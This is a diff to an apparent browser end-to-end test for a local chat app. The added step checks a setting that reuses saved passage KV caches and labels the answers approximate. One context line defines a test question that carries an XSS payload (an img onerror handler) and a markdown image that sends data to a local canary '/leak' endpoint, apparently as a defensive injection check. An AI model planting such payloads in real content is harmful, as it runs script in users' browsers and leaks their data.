@@ -484,6 +484,34 @@ try {
 
   await step('empty chat: library and model status, questions from the library, the last chat reopens', () => emptyChat(page, server, browser));
 
+  await step('passage KV: switched on in Settings, a question asked again places its saved passages; the panel says approximate', async () => {
+    await tid('nav-settings').click();
+    await tid('setting-passage_kv').check();
+    await tid('save-settings').click();
+    await page.waitForFunction(() => document.querySelector('[data-testid="settings-status"]')?.textContent === 'Saved.');
+    assert.equal((await server.api('GET', '/api/settings')).passage_kv, true);
+    await tid('nav-chat').click();
+    // The first ask queues its passages; another question moves the answer's cache elsewhere;
+    // asked again, the first question's passages come from their saved KV.
+    const QS = 'Why do the northern lights glow green?';
+    for (const q of [QS, Q1]) {
+      await tid('new-chat').click();
+      await ask(page, q);
+      await page.waitForTimeout(1500); // the passages are saved in the background
+    }
+    await tid('new-chat').click();
+    await ask(page, QS);
+    const t = await traceOf(server, QS, (x) => x.stitched_passages > 0);
+    console.log(`     stitch ${t.stitch}: ${t.stitched_passages} passages, ${t.stitched_tokens} of ${t.prompt_tokens} tokens placed, ${t.repaired_tokens} repaired, ${t.eval_tokens} read (${t.stitch_note || 'no note'})`);
+    assert.equal(t.stitch, 'on');
+    assert.match(await lastTurn().getByTestId('answer-meta').textContent(), /\d+ passages from saved KV \(approximate\)/);
+    await lastTurn().getByTestId('show-latency').click();
+    await page.waitForFunction(() => /^approximate · \d+ passages placed/.test(document.querySelector('[data-testid="detail-stitch"]')?.textContent ?? ''));
+    assert.match(await tid('token-split-text').textContent(), /\d+ stitched/);
+    await server.api('PUT', '/api/settings', { ...(await server.api('GET', '/api/settings')), passage_kv: false });
+    await tid('nav-chat').click();
+  });
+
   const QX = `What does the zanzibar ledger memo say? <img src=x onerror="window.__pwned='question'"> ![q](http://127.0.0.1:${canary.port}/leak?d=question)`;
   await step('typed question: its prompt is prefilled while typing and adopted on Enter', async () => {
     await tid('nav-chat').click();
